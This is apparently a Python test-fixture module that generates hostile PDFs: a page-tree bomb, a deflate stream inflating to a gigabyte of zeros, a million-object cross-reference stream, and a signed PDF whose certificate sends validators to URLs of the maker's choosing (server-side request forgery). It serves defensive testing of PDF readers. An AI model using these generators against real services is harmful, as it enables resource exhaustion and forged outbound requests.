"""Hostile PDFs for the tests. Built to exhaust a reader, written byte by byte as an attacker's
tool would: a page tree that lists one page a hundred thousand times, a content stream of a
gigabyte of zeros deflated to about a megabyte, and a cross-reference stream declaring more than
a million objects (each a valid PDF that qpdf, poppler and pyHanko open). And a signed PDF whose
certificate sends a validator to addresses of its maker's choosing."""

from __future__ import annotations

import datetime as dt
import zlib
from pathlib import Path

GIB = 2**30
_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >>%s >>"


def write(path: Path, objects: dict[int, bytes], padding: int = 0) -> Path:
    """A PDF of `objects` (number -> what stands between `obj` and `endobj`), catalog 1, with a
    classic cross-reference table; `padding` bytes of comment make the file that much larger."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for num in sorted(objects):
        offsets[num] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (num, objects[num])
    if padding:
        out += b"%" + b"0" * padding + b"\n"
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    out += b"".join(b"%010d 00000 n \n" % offsets[n] if n in offsets else
                    b"0000000000 65535 f \n" for n in range(1, size))
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
    path.write_bytes(out)
    return path


def one_page(path: Path) -> Path:
    """An ordinary, harmless one-page PDF made the same way."""
    return write(path, {1: b"<< /Type /Catalog /Pages 2 0 R >>",
                        2: b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>", 3: _PAGE % b""})


def pages_bomb(path: Path, count: int = 100_000) -> Path:
    """`count` references to one page object: the file is 600 kB, its page tree `count` pages."""
    kids = b" ".join([b"3 0 R"] * count)
    return write(path, {1: b"<< /Type /Catalog /Pages 2 0 R >>",
                        2: b"<< /Type /Pages /Count %d /Kids [%s] >>" % (count, kids),
                        3: _PAGE % b""})


def deflated_zeros(size: int) -> bytes:
    """zlib data that inflates to `size` zero bytes (a multiple of a MiB), made in a blink: after
    a full flush deflate starts afresh, so every further MiB compresses to the same block."""
    mib = bytes(2**20)
    co = zlib.compressobj(9)
    first = co.compress(mib) + co.flush(zlib.Z_FULL_FLUSH)
    block = co.compress(mib) + co.flush(zlib.Z_FULL_FLUSH)
    end = co.flush()[:-4]  # the final empty block; the checksum is the whole data's
    adler = 1
    for _ in range(size // 2**20):
        adler = zlib.adler32(mib, adler)
    return first + block * (size // 2**20 - 1) + end + adler.to_bytes(4, "big")


def stream_bomb(path: Path, size: int = GIB) -> Path:
    """One page whose content stream inflates to `size` bytes of zeros."""
    data = deflated_zeros(size)
    stream = b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(data), data)
    return write(path, {1: b"<< /Type /Catalog /Pages 2 0 R >>",
                        2: b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
                        3: _PAGE % b" /Contents 4 0 R", 4: stream})


def objects_bomb(path: Path, count: int = 1_200_000) -> Path:
    """A cross-reference stream of `count` entries, every one naming the first object of an
    object stream (identical rows: they deflate to almost nothing), and padding enough for qpdf
    to take them all (it ignores object numbers beyond a third of the file's size)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for num, body in ((1, b"<< /Type /Catalog /Pages 2 0 R >>"),
                      (2, b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>"), (3, _PAGE % b"")):
        offsets[num] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (num, body)
    first = 5  # objects 5.. are in object stream 4
    header = b"%d 0 " % first
    packed = zlib.compress(header + b"null")
    offsets[4] = len(out)
    out += (b"4 0 obj\n<< /Type /ObjStm /N 1 /First %d /Length %d /Filter /FlateDecode >>\n"
            b"stream\n%s\nendstream\nendobj\n" % (len(header), len(packed), packed))
    out += b"%" + b"0" * (3 * count + 1000) + b"\n"
    xref_num = first + count
    offsets[xref_num] = len(out)

    def row(kind: int, a: int, b: int) -> bytes:
        return bytes([kind]) + a.to_bytes(4, "big") + b.to_bytes(4, "big")

    rows = b"".join([row(0, 0, 65535), *(row(1, offsets[n], 0) for n in range(1, first)),
                     row(2, 4, 0) * count, row(1, offsets[xref_num], 0)])
    packed = zlib.compress(rows, 9)
    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 4] /Root 1 0 R /Length %d "
            b"/Filter /FlateDecode >>\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n"
            % (xref_num, xref_num + 1, len(packed), packed, offsets[xref_num]))
    path.write_bytes(out)
    return path


def signed_naming(folder: Path, base: str) -> Path:
    """A PDF signed by a certificate whose CA nobody has, naming its issuer (caIssuers), OCSP
    responder and CRL at `base`: a validator that fetches calls that address."""
    import pikepdf
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import AuthorityInformationAccessOID, NameOID
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign import signers

    now = dt.datetime.now(dt.UTC)
    ca_key, key = ec.generate_private_key(ec.SECP256R1()), ec.generate_private_key(
        ec.SECP256R1())
    ca_name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Hostile CA")])
    uri = x509.UniformResourceIdentifier
    cert = (x509.CertificateBuilder()
            .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Kẻ lạ")]))
            .issuer_name(ca_name).public_key(key.public_key())
            .serial_number(x509.random_serial_number())
            .not_valid_before(now - dt.timedelta(days=1))
            .not_valid_after(now + dt.timedelta(days=30))
            .add_extension(x509.AuthorityInformationAccess([
                x509.AccessDescription(AuthorityInformationAccessOID.CA_ISSUERS,
                                       uri(f"{base}/ssrf-caissuers")),
                x509.AccessDescription(AuthorityInformationAccessOID.OCSP,
                                       uri(f"{base}/ssrf-ocsp"))]), critical=False)
            .add_extension(x509.CRLDistributionPoints([x509.DistributionPoint(
                [uri(f"{base}/ssrf-crl")], None, None, None)]), critical=False)
            .add_extension(x509.KeyUsage(True, True, False, False, False, False, False, False,
                                         False), critical=True)
            .sign(ca_key, hashes.SHA256()))
    (folder / "key.pem").write_bytes(key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption()))
    (folder / "cert.pem").write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    plain = folder / "plain.pdf"
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        pdf.save(plain)
    signer = signers.SimpleSigner.load(str(folder / "key.pem"), str(folder / "cert.pem"))
    assert signer is not None
    target = folder / "hostile.pdf"
    with plain.open("rb") as src, target.open("wb") as dst:
        signers.sign_pdf(IncrementalPdfFileWriter(src), signers.PdfSignatureMetadata(
            field_name="Sig1"), signer=signer, output=dst)
    return target
